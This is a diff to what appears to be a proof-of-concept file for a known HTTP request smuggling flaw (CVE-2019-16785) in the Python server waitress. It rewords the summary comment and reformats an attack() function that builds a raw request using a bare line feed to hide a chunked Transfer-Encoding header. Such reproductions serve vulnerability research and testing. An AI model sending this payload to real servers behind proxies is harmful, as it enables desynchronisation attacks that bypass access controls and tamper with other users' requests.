@@ -2,7 +2,7 @@
 # id = "PYSEC-2019-136"
 # aliases = ["CVE-2019-16785", "GHSA-pg36-wpm5-g57p"]
 # package = "waitress"
-# summary = "A bare line feed ends a header line, so a request that a proxy in front takes for one is two for the server."
+# summary = "A bare line feed ends a header line, so what a proxy in front takes for one request is two for the server."
 # severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:H/A:N" }]
 # cwe = ["CWE-444"]
 # kind = "request-smuggling"
@@ -80,7 +80,8 @@ def converse_and_look(data):
 def attack():
     body = b"0\r\n\r\n" + FOLLOWING
     return converse_and_look(
-        b"POST /front HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\nX-Note: a\nTransfer-Encoding: chunked\r\n\r\n" % len(body)
+        b"POST /front HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\nX-Note: a\nTransfer-Encoding: chunked\r\n\r\n"
+        % len(body)
         + body
     )
 
